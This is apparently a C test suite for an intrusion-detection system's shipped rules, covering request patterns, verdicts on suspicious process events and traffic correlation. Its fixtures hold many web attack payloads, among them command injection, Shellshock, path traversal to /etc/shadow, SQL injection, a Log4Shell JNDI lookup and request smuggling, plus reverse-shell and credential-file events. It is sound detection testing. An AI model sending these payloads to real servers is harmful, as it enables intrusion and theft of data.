/* The rules that we ship, read from their files: what each of them is there to see, and what none of them may mind. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <hs/hs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "detect/case.h"
#include "detect/pattern.h"
#include "detect/watch.h"
#include "gateway/yaml.h"
#include "tests/detect/scene.h"

struct shipped {
	json_t *merged;
	struct ft_patterns *patterns;
	struct ft_rules *verdicts, *correlations;
	hs_database_t *database;
	hs_scratch_t *scratch;
};

static void take_file(struct shipped *s, const char *folder, const char *name)
{
	char path[512], where[FT_DOOR_WHERE] = "";
	struct ft_error err = {0};
	struct ft_yaml *tree;
	snprintf(path, sizeof(path), "%s/%s", folder, name);
	if (ft_yaml_read(path, &tree, &err))
		fail_msg("%s", err.text);
	json_t *file = ft_yaml_json(tree);
	if (ft_rules_check_file(file, where, &err) || ft_rules_merge(s->merged, file, where, &err)) {
		const struct ft_yaml *node = ft_yaml_at(tree, where);
		fail_msg("%s:%d:%d: %s", path, node->line, node->column, err.text);
	}
	json_decref(file);
	ft_yaml_free(tree);
}

static int set_up(void **state)
{
	static struct shipped s;
	const char *folder = *state;
	struct ft_error err = {0};
	s = (struct shipped){0};
	s.merged = json_pack("{s:[], s:[], s:[]}", "patterns", "verdicts", "correlations");
	take_file(&s, folder, "web.yaml");
	take_file(&s, folder, "verdict.yaml");
	take_file(&s, folder, "correlation.yaml");
	if (ft_patterns_load(json_object_get(s.merged, "patterns"), &s.patterns, NULL, &err) ||
	    ft_rules_load(json_object_get(s.merged, "verdicts"), FT_RULES_VERDICT, &s.verdicts, NULL, &err) ||
	    ft_rules_load(json_object_get(s.merged, "correlations"), FT_RULES_CORRELATION, &s.correlations,
			  NULL, &err))
		fail_msg("%s", err.text);
	const char *expressions[256];
	unsigned flags[256], ids[256];
	assert_in_range(s.patterns->count, 1, 256);
	for (unsigned i = 0; i < s.patterns->count; i++) {
		expressions[i] = s.patterns->patterns[i].pattern;
		flags[i] = s.patterns->patterns[i].flags;
		ids[i] = s.patterns->patterns[i].sid;
	}
	hs_compile_error_t *why;
	if (hs_compile_multi(expressions, flags, ids, (unsigned)s.patterns->count, HS_MODE_STREAM, NULL,
			     &s.database, &why))
		fail_msg("%s", why->message);
	assert_int_equal(hs_alloc_scratch(s.database, &s.scratch), HS_SUCCESS);
	*state = &s;
	return 0;
}

static int tear_down(void **state)
{
	struct shipped *s = *state;
	hs_free_scratch(s->scratch);
	hs_free_database(s->database);
	ft_patterns_free(s->patterns);
	ft_rules_free(s->verdicts);
	ft_rules_free(s->correlations);
	json_decref(s->merged);
	return 0;
}

/* Patterns. */

struct matches {
	unsigned count;
	unsigned sids[64];
};

static int on_match(unsigned sid, unsigned long long from, unsigned long long to, unsigned flags,
		    void *context)
{
	struct matches *m = context;
	if (m->count < 64)
		m->sids[m->count++] = sid;
	return 0;
}

/* Scans the texts as one stream, in pieces of `step` bytes. */
static void scan(const struct shipped *s, const char *const *texts, size_t count, size_t step,
		 struct matches *m)
{
	hs_stream_t *stream;
	*m = (struct matches){0};
	assert_int_equal(hs_open_stream(s->database, 0, &stream), HS_SUCCESS);
	for (size_t t = 0; t < count; t++)
		for (size_t at = 0, n = strlen(texts[t]); at < n; at += step)
			hs_scan_stream(stream, texts[t] + at, (unsigned)(n - at < step ? n - at : step), 0,
				       s->scratch, on_match, m);
	hs_close_stream(stream, NULL, NULL, NULL);
}

static bool has(const struct matches *m, unsigned sid)
{
	for (unsigned i = 0; i < m->count; i++)
		if (m->sids[i] == sid)
			return true;
	return false;
}

#define GET(url) "GET " url " HTTP/1.1\r\nHost: 10.0.2.15\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
#define POST(body)                                                                                           \
	"POST /form HTTP/1.1\r\nHost: 10.0.2.15\r\nContent-Type: "                                           \
	"application/x-www-form-urlencoded\r\n\r\n" body
#define TEN(text) text text text text text text text text text text
#define LONG      TEN(TEN("AbC"))
#define HUGE      TEN(LONG)

static const char plain[] = GET("/index.html");

static void attacks_are_noticed_wherever_they_stand(void **state)
{
	static const struct {
		unsigned sid;
		const char *text;
	} attacks[] = {
	    {1000001, GET("/cgi-bin/lookup?host=localhost;touch+/var/www/touched/x")},
	    {1000003, GET("/cgi-bin/lookup?host=localhost;touch+/var/www/touched/x")},
	    {1000001, GET("/cgi-bin/lookup?host=localhost%3Becho+was+here%3E%2Fvar%2Fwww")},
	    {1000003, GET("/cgi-bin/lookup?host=localhost%3Becho+was+here%3E%2Fvar%2Fwww")},
	    {1000001, GET("/cgi-bin/remind?after=30&text=tea%24%28touch+/var/www/x%29")},
	    {1000001, GET("/x?a=`id`")},
	    {1000001, GET("/x?a=b|c")},
	    {1000001, GET("/x?a=b%0aid")},
	    {1000001, "HEAD /x?a=b&&id HTTP/1.0\r\n\r\n"},
	    /* What servers take, though no browser writes it. */
	    {1000001, "GET   /x?a=b;reboot HTTP/1.1\r\n\r\n"},
	    {1000001, "A /x?a=b;reboot HTTP/1.1\r\n\r\n"},
	    {1000001, "A_METHOD-WITHOUT-END /x?a=b;reboot HTTP/1.1\n\n"},
	    {1000001, "GET http://10.0.2.15/x?a=b;reboot HTTP/1.1\r\n\r\n"},
	    {1000001, GET("/x?a=b%26reboot")},
	    {1000002, "POST /form HTTP/1.1\nContent-Length: 8\n\na=;reboot"},
	    {1000005, "GET  /static/%2e./x\n\n"},
	    {1000016, "POST / HTTP/1.1\nContent-Length: 4\nTransfer-Encoding: chunked\n\n"},
	    {1000002, POST("host=localhost;id")},
	    {1000002, POST("a=1&host=localhost%26%26id")},
	    {1000002, "GET /form HTTP/1.1\r\nContent-Length : 8\r\nHost: x\r\n\r\na=;reboot"},
	    {1000002, "GET /form HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n8;x\r\na=;reboot"},
	    {1000002, "POST /form HTTP/1.0\r\nX: a\rb\r\n\r\na=;reboot"},
	    {1000003, POST("a=1|/bin/sh -i")},
	    {1000003, GET("/x?a=$(uname+-a)")},
	    {1000004, "GET / HTTP/1.1\r\nHost: x\r\nCookie: () { :;}; /bin/sh\r\n\r\n"},
	    {1000005, GET("/static/../../etc/x")},
	    {1000005, GET("/static/%2e%2e/x")},
	    {1000005, GET("/static/..%2fx")},
	    {1000005, GET("/static/%252e%252e%252fx")},
	    {1000006, GET("/download?file=/etc/passwd")},
	    {1000006, GET("/download?file=%2Fetc%2Fshadow")},
	    {1000006, GET("/.git/config")},
	    {1000007, GET("/cgi-bin/greet?name=" LONG)},
	    {1000007, GET("/cgi-bin/greet?a=1&name=" LONG)},
	    {1000008, GET("/cgi-bin/greet?name=a%00b")},
	    {1000009, GET("/cgi-bin/greet?name=%e3%81%84%e3%81%a4")},
	    {1000009, GET("/cgi-bin/greet?name=%90%90%90%90%cc")},
	    {1000010, "GET /x?\x90\x90 HTTP/1.1\r\n\r\n"},
	    {1000011, GET("/?x=%90%90%90%90%90%90%90%90%90%90%90%90%90%90%90%90")},
	    {1000012, GET("/item?id=1%20UNION%20SELECT%20password")},
	    {1000012, GET("/item?id=1'+or+1=1--")},
	    {1000012, POST("user=x' OR '1'='1")},
	    {1000013, "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"},
	    {1000013, GET("/?x={{7*7}}")},
	    {1000014, POST("code=<?php echo 1;")},
	    {1000014, GET("/?x=system(1)")},
	    {1000015, "GET / HTTP/1.1\r\nX-Long: " HUGE "\r\n\r\n"},
	    {1000017, POST("file=../../x")},
	    {1000017, POST("a=1&file=..%2f..%2fx")},
	    {1000018, POST("name=" LONG)},
	    {1000018, POST("a=1&name=" LONG "&b=1")},
	    {1000019, POST("name=a%00b")},
	    {1000020, POST("name=%90%90%90%90%cc")},
	    {1000016,
	     "POST / HTTP/1.1\r\nContent-Length: 4\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"},
	};
	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++) {
		struct matches m;
		const char *second[] = {plain, attacks[i].text}, *third[] = {plain, POST("a=1"), attacks[i].text};
		scan(*state, &attacks[i].text, 1, 1 << 20, &m);
		if (!has(&m, attacks[i].sid))
			fail_msg("%u does not match: %s", attacks[i].sid, attacks[i].text);
		/* As second request on a kept connection, and a byte at a time. */
		scan(*state, second, 2, 1, &m);
		if (!has(&m, attacks[i].sid))
			fail_msg("%u does not match the second time: %s", attacks[i].sid, attacks[i].text);
		/* Right behind a body that does not end with its line. */
		scan(*state, third, 3, 1, &m);
		if (!has(&m, attacks[i].sid))
			fail_msg("%u does not match behind a body: %s", attacks[i].sid, attacks[i].text);
	}
}

/* What follows the headers of a request without a body is the next request, and no form. */
static void a_request_is_not_taken_for_a_form(void **state)
{
	static const char *const second[] = {
	    GET("/a=b;c"),
	    GET("/cgi-bin/lookup?host=localhost;id"),
	    GET("/x?y=../../z"),
	    GET("/cgi-bin/greet?name=a%00b%90%90%90%90" LONG),
	};
	static const char *const first[] = {
	    plain,
	    "GET / HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
	    "HEAD /post HTTP/1.1\nHost: x\n\n",
	};
	for (size_t i = 0; i < sizeof(second) / sizeof(*second); i++)
		for (size_t k = 0; k < sizeof(first) / sizeof(*first); k++) {
			const char *texts[] = {first[k], second[i]};
			struct matches m;
			scan(*state, texts, 2, 1 << 20, &m);
			for (unsigned sid = 1000017; sid <= 1000020; sid++)
				if (has(&m, sid))
					fail_msg("%u takes a request for a form: %s", sid, second[i]);
			if (has(&m, 1000002))
				fail_msg("1000002 takes a request for a form: %s", second[i]);
		}
}

/* Not because a match would do harm, but because holding everyday traffic would make the rules useless. */
static void everyday_requests_pass_without_a_match(void **state)
{
	static const char *const requests[] = {
	    plain,
	    GET("/"),
	    GET("/style/main-2.css?v=1.2.3"),
	    GET("/cgi-bin/lookup?host=localhost"),
	    GET("/cgi-bin/lookup?host=www.example.org&note=hello+world"),
	    GET("/cgi-bin/greet?name=Ann%20Smith"),
	    GET("/cgi-bin/greet?name=J%C3%BCrgen"),
	    GET("/cgi-bin/remind?after=30&text=tea"),
	    GET("/a/b/c.html#top"),
	    GET("/search?q=cats+and+dogs&page=2"),
	    GET("/files/report%20final.pdf"),
	    GET("/requests"),
	    GET("/touched/inject-1"),
	    POST("name=Ann+Smith&mail=ann%40example.org&text=See+you+at+8%3A30%2C+Ann"),
	    "GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
	    "rv:109.0) Gecko/20100101 "
	    "Firefox/115.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: "
	    "de,en;q=0.5\r\n"
	    "Cookie: session=9f8a7b; id=5; theme=dark\r\nConnection: keep-alive\r\n\r\n",
	    "GET /img/logo.png HTTP/1.1\r\nHost: x\r\nIf-Modified-Since: Sat, 21 Nov 2026 10:00:00 GMT\r\n"
	    "If-None-Match: \"5f-1a2b\"\r\nReferer: http://x/a?b=c\r\n\r\n",
	};
	struct matches m;
	for (size_t i = 0; i < sizeof(requests) / sizeof(*requests); i++) {
		scan(*state, &requests[i], 1, 1 << 20, &m);
		if (m.count)
			fail_msg("%u matches: %s", m.sids[0], requests[i]);
	}
	scan(*state, requests, sizeof(requests) / sizeof(*requests), 1 << 20, &m);
	if (m.count)
		fail_msg("%u matches across requests", m.sids[0]);
}

/* Verdicts. */

struct shown {
	enum ft_event_type type;
	const char *process, *string0, *string1;
	uint64_t a[6];
};

static const char profile_text[] =
    "{\"may_exec\": [\"/usr/lib/cgi-bin/*\", \"/usr/bin/getent\"], \"may_connect\": [\"10.0.2.3:53\", "
    "\"unix:/run/fcgiwrap/socket\"], \"may_uring\": [\"maria*\"], \"may_jit\": [\"node\"], "
    "\"may_write\": [\"/var/log/nginx/*\", \"/var/lib/nginx/**\"]}";

/* twin: what the twin shows, twin_count of them. */
static void judge_against(const struct shipped *s, const struct shown *shown, size_t count,
			  const struct shown *twin, size_t twin_count, struct ft_judgement *j)
{
	struct ft_profile *profile;
	json_t *normal = json_loads(profile_text, 0, NULL);
	assert_int_equal(ft_profile_load(normal, &profile, NULL, NULL), 0);
	json_decref(normal);
	struct ft_case *c = ft_case_new(SCENE_HOLD, s->verdicts, profile);
	struct scene_event e;
	for (size_t i = 0; i < count; i++) {
		scene(&e, shown[i].type, FT_ROLE_TRIAL, 10 + i, shown[i].process, shown[i].string0,
		      shown[i].string1, shown[i].a);
		ft_case_add(c, &e.event, e.strings);
	}
	scene(&e, FT_EVENT_TRIAL_HANDLED, FT_ROLE_TRIAL, 1000, "", NULL, NULL, FIELDS(9, 9, 1));
	ft_case_add(c, &e.event, e.strings);
	scene(&e, FT_EVENT_TRIAL_END, FT_ROLE_TRIAL, 9000, "", "", NULL,
	      FIELDS(FT_TRIAL_END_HORIZON, 0, 0, 0, 1));
	ft_case_add(c, &e.event, e.strings);
	if (ft_case_step(c) == FT_CASE_TWIN) {
		for (size_t i = 0; i < twin_count; i++) {
			scene(&e, twin[i].type, FT_ROLE_TWIN, 10 + i, twin[i].process, twin[i].string0,
			      twin[i].string1, twin[i].a);
			ft_case_add(c, &e.event, e.strings);
		}
		scene(&e, FT_EVENT_TRIAL_END, FT_ROLE_TWIN, 9000, "", "", NULL, FIELDS(FT_TRIAL_END_HORIZON));
		ft_case_add(c, &e.event, e.strings);
		assert_int_equal(ft_case_step(c), FT_CASE_JUDGED);
	}
	ft_case_judge(c, j);
	ft_case_free(c);
	ft_profile_free(profile);
	/* The texts live as long as the rules, which outlive the case. */
}

static void judge(const struct shipped *s, const struct shown *shown, size_t count, struct ft_judgement *j)
{
	judge_against(s, shown, count, NULL, 0, j);
}

#define REFUSED (uint64_t) - 13

static void each_verdict_rule_sees_its_case(void **state)
{
	static const struct {
		uint32_t sid;
		struct shown shown;
	} cases[] = {
	    {2000001, {FT_EVENT_EXEC, "lookup", "/usr/bin/touch", "touch x", {0}}},
	    {2000001, {FT_EVENT_EXEC, "lookup", "descriptor 3", "x", {0}}},
	    {2000002, {FT_EVENT_CODE_WRITTEN, "greet", NULL, NULL, {0x7ffe0000, 0x1000, 1}}},
	    {2000003,
	     {FT_EVENT_CONNECT, "sh", "192.0.2.66:4444", NULL, {2, 0xc0000242, 4444, (uint64_t)-115}}},
	    {2000003, {FT_EVENT_CONNECT, "sh", "[2001:db8::6]:4444", NULL, {10, 0, 4444, 0}}},
	    {2000004, {FT_EVENT_FILE_WRITE, "sh", "/etc/passwd", NULL, {1, REFUSED}}},
	    {2000004, {FT_EVENT_FILE_WRITE, "sh", "/root/.ssh/authorized_keys", NULL, {1, 0}}},
	    {2000004, {FT_EVENT_FILE_WRITE, "sh", "/etc/cron.d/x", NULL, {1, 0}}},
	    {2000004, {FT_EVENT_FILE_RENAME, "sh", "/tmp/a", "/etc/shadow", {0}}},
	    {2000004, {FT_EVENT_FILE_REMOVE, "sh", "/usr/bin/id", NULL, {0}}},
	    {2000005, {FT_EVENT_FILE_WRITE, "lookup", "/var/www/touched/x", NULL, {0x41, 0}}},
	    {2000005, {FT_EVENT_FILE_WRITE, "lookup", "relative/path", NULL, {0x41, 0}}},
	    {2000005, {FT_EVENT_FILE_REMOVE, "lookup", "/var/www/site/index.html", NULL, {0}}},
	    {2000005, {FT_EVENT_FILE_RENAME, "lookup", "/var/log/nginx/a", "/var/www/x", {0}}},
	    {2000005, {FT_EVENT_FILE_LINK, "sh", "/etc/motd", "/var/lib/nginx/x", {0}}},
	    {2000005, {FT_EVENT_FILE_LINK, "sh", "/var/lib/nginx/../x", "/var/lib/nginx/x", {0}}},
	    {2000005, {FT_EVENT_FILE_LINK, "sh", "/var/lib/nginx/x", "/tmp/x", {0}}},
	    {2000007, {FT_EVENT_FILE_MODE, "sh", "/tmp/x", NULL, {04755, 0}}},
	    {2000007, {FT_EVENT_FILE_MODE, "sh", "descriptor 3", NULL, {04755, 0}}},
	    {2000008, {FT_EVENT_LISTEN, "sh", "0.0.0.0:4444", NULL, {2, 0, 4444, 0}}},
	    {2000008, {FT_EVENT_LISTEN, "sh", "*:0", NULL, {0, 0, 0, 0}}},
	    {2000009, {FT_EVENT_SYSCALL, "sh", NULL, NULL, {313}}},
	    {2000010, {FT_EVENT_PANIC, "", "Kernel panic - not syncing", NULL, {0}}},
	    {2000011, {FT_EVENT_RESET, "", "reboot", NULL, {1}}},
	    {2000014, {FT_EVENT_SIGNAL, "greet", NULL, NULL, {11, 600}}},
	    {2000015, {FT_EVENT_FILE_MODE, "sh", "/tmp/x", NULL, {0755, 0}}},
	    {2000016, {FT_EVENT_SYSCALL, "sh", NULL, NULL, {101}}},
	    {2000017, {FT_EVENT_NET_TX, "", "192.0.2.9:9999", NULL, {60, 17, 0xc0000209, 9999, 40000, 1}}},
	    {2000018, {FT_EVENT_SYSCALL, "greet", NULL, NULL, {425, 8}}},
	    {2000018, {FT_EVENT_SYSCALL, "greet", NULL, NULL, {426, 3}}},
	    {2000018, {FT_EVENT_SYSCALL, "notmaria", NULL, NULL, {426, 3}}},
	    {2000003, {FT_EVENT_NET_TX, "", "192.0.2.9:4444", NULL, {74, 6, 0xc0000209, 4444, 40000, 1}}},
	    {2000020, {FT_EVENT_CONNECT, "sh", "unix:/run/dbus/system_bus_socket", NULL, {1, 0, 0, 0}}},
	    {2000020, {FT_EVENT_CONNECT, "sh", "unix:/run/systemd/private", NULL, {1, 0, 0, REFUSED}}},
	    {2000020, {FT_EVENT_CONNECT, "sh", "unix:/var/run/docker.sock", NULL, {1, 0, 0, 0}}},
	    {2000021, {FT_EVENT_CONNECT, "sh", "unix:/run/fcgiwrap/other", NULL, {1, 0, 0, 0}}},
	    {2000021, {FT_EVENT_CONNECT, "sh", "unix:@backdoor", NULL, {1, 0, 0, 0}}},
	    {2000021, {FT_EVENT_CONNECT, "sh", "unix:relative", NULL, {1, 0, 0, 0}}},
	    {2000022, {FT_EVENT_SYSCALL, "greet", NULL, NULL, {10, 0x7ffe0000, 4096, 7}}},
	    {2000022, {FT_EVENT_SYSCALL, "greet", NULL, NULL, {329, 0x7ffe0000, 4096, 5}}},
	    {2000019, {FT_EVENT_FILE_MAP, "php", "/var/lib/nginx/x.so", NULL, {5}}},
	    {2000019, {FT_EVENT_FILE_MAP, "php", "descriptor 7", NULL, {5}}},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct ft_judgement j;
		judge(*state, &cases[i].shown, 1, &j);
		if (j.sid != cases[i].sid)
			fail_msg("case %zu: expected %u, decided by %u (%s)", i, cases[i].sid, j.sid, j.name);
		assert_true(j.verdict == FT_VERDICT_MALICIOUS || j.verdict == FT_VERDICT_SUSPICIOUS);
	}
}

static void what_the_twin_tried_in_vain_excuses_nothing(void **state)
{
	/* What was done, and the same thing refused. */
	static const struct shown pairs[][2] = {
	    {{FT_EVENT_FILE_WRITE, "sh", "/var/www/x", NULL, {0x41, 0}},
	     {FT_EVENT_FILE_WRITE, "sh", "/var/www/x", NULL, {0x41, REFUSED}}},
	    {{FT_EVENT_FILE_WRITE, "sh", "/etc/passwd", NULL, {0x41, 0}},
	     {FT_EVENT_FILE_WRITE, "sh", "/etc/passwd", NULL, {0x41, REFUSED}}},
	    {{FT_EVENT_FILE_REMOVE, "sh", "/var/www/x", NULL, {0}},
	     {FT_EVENT_FILE_REMOVE, "sh", "/var/www/x", NULL, {REFUSED}}},
	    {{FT_EVENT_FILE_RENAME, "sh", "/tmp/a", "/etc/passwd", {0}},
	     {FT_EVENT_FILE_RENAME, "sh", "/tmp/a", "/etc/passwd", {REFUSED}}},
	    {{FT_EVENT_FILE_MODE, "sh", "/etc/passwd", NULL, {0666, 0}},
	     {FT_EVENT_FILE_MODE, "sh", "/etc/passwd", NULL, {0666, REFUSED}}},
	    {{FT_EVENT_LISTEN, "sh", "0.0.0.0:4444", NULL, {2, 0, 4444, 0}},
	     {FT_EVENT_LISTEN, "sh", "0.0.0.0:4444", NULL, {2, 0, 4444, (uint64_t)-98}}},
	};
	for (size_t i = 0; i < sizeof(pairs) / sizeof(*pairs); i++) {
		struct ft_judgement j;
		judge_against(*state, &pairs[i][0], 1, &pairs[i][1], 1, &j);
		if (j.verdict != FT_VERDICT_MALICIOUS)
			fail_msg("pair %zu: %s", i, j.name);
		judge_against(*state, &pairs[i][0], 1, &pairs[i][0], 1, &j);
		if (j.verdict != FT_VERDICT_CLEAN)
			fail_msg("pair %zu done by both: %s", i, j.name);
	}
}

static void repetition_has_rules_of_its_own(void **state)
{
	struct ft_judgement j;
	struct shown crash = {FT_EVENT_SIGNAL, "greet", NULL, NULL, {11, 600}};
	struct shown crashes[3] = {crash, crash, crash};
	judge(*state, crashes, 2, &j);
	assert_int_equal(j.sid, 2000014);
	judge(*state, crashes, 3, &j);
	assert_int_equal(j.sid, 2000013);
	struct shown removals[50];
	for (int i = 0; i < 50; i++)
		removals[i] = (struct shown){FT_EVENT_FILE_REMOVE, "sh", "/var/lib/nginx/body/a", NULL, {0}};
	judge(*state, removals, 49, &j);
	assert_int_equal(j.verdict, FT_VERDICT_CLEAN);
	judge(*state, removals, 50, &j);
	assert_int_equal(j.sid, 2000012);
	struct shown drop[] = {{FT_EVENT_FILE_WRITE, "sh", "/var/lib/nginx/x", NULL, {0x41, 0}},
			       {FT_EVENT_EXEC, "sh", "/usr/lib/cgi-bin/x", "x", {0}}};
	judge(*state, drop, 2, &j);
	assert_int_equal(j.verdict, FT_VERDICT_CLEAN);
	drop[0].string0 = "/usr/lib/cgi-bin/x";
	judge(*state, drop, 2, &j);
	assert_int_equal(j.verdict, FT_VERDICT_MALICIOUS);
}

static void a_normal_day_of_the_service_is_clean(void **state)
{
	static const struct shown day[] = {
	    {FT_EVENT_CONNECT, "nginx", "unix:/run/fcgiwrap/socket", NULL, {1, 0, 0, 0}},
	    {FT_EVENT_CONNECT, "getent", "unix:/var/run/nscd/socket", NULL, {1, 0, 0, (uint64_t)-2}},
	    {FT_EVENT_CONNECT, "getent", "10.0.2.3:53", NULL, {2, 0x0a000203, 53, 0}},
	    {FT_EVENT_CONNECT, "nginx", "unix:/dev/log", NULL, {1, 0, 0, 0}},
	    {FT_EVENT_CONNECT, "php", "unix:/run/gone.sock", NULL, {1, 0, 0, (uint64_t)-111}},
	    {FT_EVENT_EXEC, "fcgiwrap", "/usr/lib/cgi-bin/lookup", "lookup", {0}},
	    {FT_EVENT_EXEC, "lookup", "/usr/sbin/getent", "getent", {(uint64_t)-2}},
	    {FT_EVENT_EXEC, "lookup", "/usr/bin/getent", "getent hosts localhost", {0}},
	    {FT_EVENT_FILE_WRITE, "lookup", "/dev/null", NULL, {1, 0}},
	    {FT_EVENT_FILE_WRITE, "nginx", "/var/lib/nginx/body/0000000001", NULL, {0x41, 0}},
	    {FT_EVENT_FILE_REMOVE, "nginx", "/var/lib/nginx/body/0000000001", NULL, {0}},
	    {FT_EVENT_FILE_LINK, "nginx", "/var/lib/nginx/body/1", "/var/lib/nginx/cache/1", {0}},
	    {FT_EVENT_SYSCALL, "mariadbd", NULL, NULL, {426, 3}},
	    {FT_EVENT_SYSCALL, "node", NULL, NULL, {10, 0x7f0000000000, 4096, 5}},
	    {FT_EVENT_SYSCALL, "nginx", NULL, NULL, {329, 0x7f0000000000, 4096, 3}},
	    {FT_EVENT_SYSCALL, "php", NULL, NULL, {9, 0, 4096, 7, 0x22}},
	    {FT_EVENT_NET_TX, "", "10.0.2.3:53", NULL, {74, 6, 0x0a000203, 53, 40000, 1}},
	    {FT_EVENT_SIGNAL, "sh", NULL, NULL, {17, 1}},
	    {FT_EVENT_SYSCALL, "nginx", NULL, NULL, {0}},
	    {FT_EVENT_NET_TX, "", "10.0.2.9:51234", NULL, {60, 6, 0x0a000209, 51234, 80, 0}},
	    {FT_EVENT_NET_TX, "", "10.0.2.3:67", NULL, {300, 17, 0x0a000203, 67, 68, 1}},
	    {FT_EVENT_CONSOLE, "", "hello", NULL, {5}},
	    {FT_EVENT_CR3, "", NULL, NULL, {1, 2}},
	};
	struct ft_judgement j;
	judge(*state, day, sizeof(day) / sizeof(*day), &j);
	if (j.verdict != FT_VERDICT_CLEAN)
		fail_msg("%s: %s", j.name, j.text);
}

/* Correlation. */

static void count_sid(void *context, const struct ft_rule *rule, const struct ft_event *event,
		      const char *const *strings, uint64_t since_ns)
{
	struct matches *m = context;
	on_match(rule->sid, 0, 0, 0, m);
}

static void watch(struct ft_watch *w, enum ft_event_type type, enum ft_event_role role, uint64_t ms,
		  const uint64_t fields[6], struct matches *m)
{
	struct scene_event e;
	scene(&e, type, role, ms, "", "", NULL, fields);
	e.event.trial = 0;
	assert_int_equal(ft_watch_event(w, &e.event, e.strings, count_sid, m), 0);
}

static void a_burst_to_many_destinations_is_one_finding(void **state)
{
	const struct shipped *s = *state;
	struct ft_watch *w = ft_watch_new(s->correlations, NULL);
	struct matches m = {0};
	/* Answers to many clients are a server's work; the same destinations again and again are, too. */
	for (uint64_t i = 0; i < 500; i++) {
		watch(w, FT_EVENT_NET_TX, FT_ROLE_LIVE, i, FIELDS(60, 6, i, 40000, 80, 0), &m);
		watch(w, FT_EVENT_NET_TX, FT_ROLE_LIVE, i, FIELDS(60, 6, i % 10, 443, 40000, 1), &m);
	}
	assert_int_equal(m.count, 0);
	/* Many destinations, but slowly. */
	for (uint64_t i = 0; i < 100; i++)
		watch(w, FT_EVENT_NET_TX, FT_ROLE_LIVE, 20000 + 1000 * i,
		      FIELDS(60, 6, 1000 + i, 25, 40000, 1), &m);
	assert_int_equal(m.count, 0);
	/* What a clone does is no news about the live guest. */
	for (uint64_t i = 0; i < 100; i++)
		watch(w, FT_EVENT_NET_TX, FT_ROLE_TRIAL, 200000, FIELDS(60, 6, 3000 + i, 25, 40000, 1), &m);
	assert_int_equal(m.count, 0);
	for (uint64_t i = 0; i < 400; i++)
		watch(w, FT_EVENT_NET_TX, FT_ROLE_LIVE, 300000 + 10 * i,
		      FIELDS(60, 6, 5000 + i, 25, 40000, 1), &m);
	assert_int_equal(m.count, 1);
	assert_int_equal(m.sids[0], 3000001);
	/* It goes on: told again once the window has passed. */
	for (uint64_t i = 0; i < 50; i++)
		watch(w, FT_EVENT_NET_TX, FT_ROLE_LIVE, 320000 + i, FIELDS(60, 6, 9000 + i, 25, 40000, 1),
		      &m);
	assert_int_equal(m.count, 2);
	ft_watch_free(w);
}

static void a_busy_cpu_without_cause_is_a_finding(void **state)
{
	const struct shipped *s = *state;
	for (unsigned variant = 0; variant < 4; variant++) {
		struct ft_watch *w = ft_watch_new(s->correlations, NULL);
		struct matches m = {0};
		for (uint64_t second = 0; second <= 70; second++) {
			uint64_t busy = variant == 1 && second == 30 ? 100 : 990;
			watch(w, FT_EVENT_CPU, FT_ROLE_LIVE, second * 1000, FIELDS(busy, 1000), &m);
			if (variant == 2 && second == 30)
				watch(w, FT_EVENT_NET_RX, FT_ROLE_LIVE, second * 1000 + 1,
				      FIELDS(60, 6, 1, 2, 3), &m);
			if (variant == 3 && second == 30)
				watch(w, FT_EVENT_KEY, FT_ROLE_LIVE, second * 1000 + 1, FIELDS(0), &m);
		}
		assert_int_equal(m.count, variant == 0);
		if (m.count)
			assert_int_equal(m.sids[0], 3000002);
		ft_watch_free(w);
	}
}

static void every_text_is_a_sentence_for_people(void **state)
{
	const struct shipped *s = *state;
	const struct ft_rules *lists[] = {s->verdicts, s->correlations};
	for (int l = 0; l < 2; l++)
		for (size_t i = 0; i < lists[l]->count; i++)
			assert_true(strlen(lists[l]->rules[i].text) > 20 &&
				    strchr(lists[l]->rules[i].text, ' '));
	for (size_t i = 0; i < s->patterns->count; i++)
		assert_true(strlen(s->patterns->patterns[i].text) > 15);
}

/* Argument: the folder of the rule files. */
int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
#define ONE(test)                                                                                            \
	{                                                                                                    \
#test, test, set_up, tear_down, argv[1]                                                      \
	}
	const struct CMUnitTest tests[] = {
	    ONE(attacks_are_noticed_wherever_they_stand), ONE(everyday_requests_pass_without_a_match),
	    ONE(a_request_is_not_taken_for_a_form),
	    ONE(each_verdict_rule_sees_its_case),         ONE(what_the_twin_tried_in_vain_excuses_nothing),
	    ONE(repetition_has_rules_of_its_own),
	    ONE(a_normal_day_of_the_service_is_clean),    ONE(a_burst_to_many_destinations_is_one_finding),
	    ONE(a_busy_cpu_without_cause_is_a_finding),   ONE(every_text_is_a_sentence_for_people),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
